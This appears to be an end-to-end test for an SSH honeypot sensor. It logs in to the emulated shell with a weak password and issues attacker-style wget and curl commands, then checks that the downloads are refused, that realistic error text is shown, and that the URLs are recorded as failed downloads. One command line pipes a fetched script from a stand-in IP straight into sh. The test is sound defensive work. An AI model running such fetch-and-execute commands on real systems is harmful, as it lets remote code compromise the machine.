// End to end: the real OpenSSH client runs wget and curl on the SSH sensor with fetching off (the default);
// the output is the real tools' refused-connection text and each URL lands in the store as a failed download.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import type { PhantomEvent } from '../../src/schema/events.js';
import { requirePrograms } from '../helpers/programs.js';
import { run, sshArgs } from '../helpers/run.js';
import { startTestApp, type TestApp } from '../helpers/test-app.js';

let t: TestApp;
let port: number;

before(async () => {
  t = await startTestApp();
  port = t.app.port('ssh');
});
after(async () => {
  await t.cleanup();
});

async function closedSession(pred: (events: PhantomEvent[]) => boolean): Promise<PhantomEvent[]> {
  for (let i = 0; i < 50; i++) {
    await t.app.settle();
    const bySession = new Map<string, PhantomEvent[]>();
    for (const e of await t.app.store.events({ limit: 100_000 })) bySession.set(e.session, [...(bySession.get(e.session) ?? []), e]);
    for (const events of bySession.values()) if (events.some((e) => e.eventid === 'session.closed') && pred(events)) return events;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('no matching session in the store');
}

test('wget and curl over ssh with fetching off: real texts and exit statuses, URLs recorded, nothing fetched', async (ctx) => {
  if (!requirePrograms(ctx, 'ssh', 'sshpass')) return;
  const res = await run('sshpass', ['-p', '123456', 'ssh', ...sshArgs(port), 'root@127.0.0.1', 'wget http://198.51.100.7/x.sh; echo "wget=$?"; curl -fsSL http://198.51.100.7/y.sh | sh; curl -s http://198.51.100.7/z; echo "curl=$?"']);
  assert.equal(res.code, 0, res.stderr);
  // The emulated shell delivers both streams in order on the channel, as a terminal would show them.
  const output = res.stdout + res.stderr;
  assert.match(output, /wget=4\n/);
  assert.match(output, /curl=7\n/);
  assert.match(output, /--\d{4}-\d\d-\d\d \d\d:\d\d:\d\d--  http:\/\/198\.51\.100\.7\/x\.sh\nConnecting to 198\.51\.100\.7:80\.\.\. failed: Connection refused\.\n/);
  assert.match(output, /curl: \(7\) Failed to connect to 198\.51\.100\.7 port 80 after \d+ ms: Couldn't connect to server\n/);
  const events = await closedSession((evs) => evs.some((e) => e.eventid === 'session.file_download.failed'));
  const failed = events.filter((e) => e.eventid === 'session.file_download.failed');
  assert.deepEqual(
    failed.map((e) => (e.eventid === 'session.file_download.failed' ? [e.url, e.reason] : [])),
    [
      ['http://198.51.100.7/x.sh', 'disabled'],
      ['http://198.51.100.7/y.sh', 'disabled'],
      ['http://198.51.100.7/z', 'disabled'],
    ],
  );
  assert.ok(failed.every((e) => e.src_ip === '127.0.0.1' && e.protocol === 'ssh'));
  assert.equal(events.filter((e) => e.eventid === 'session.file_download').length, 0);
});
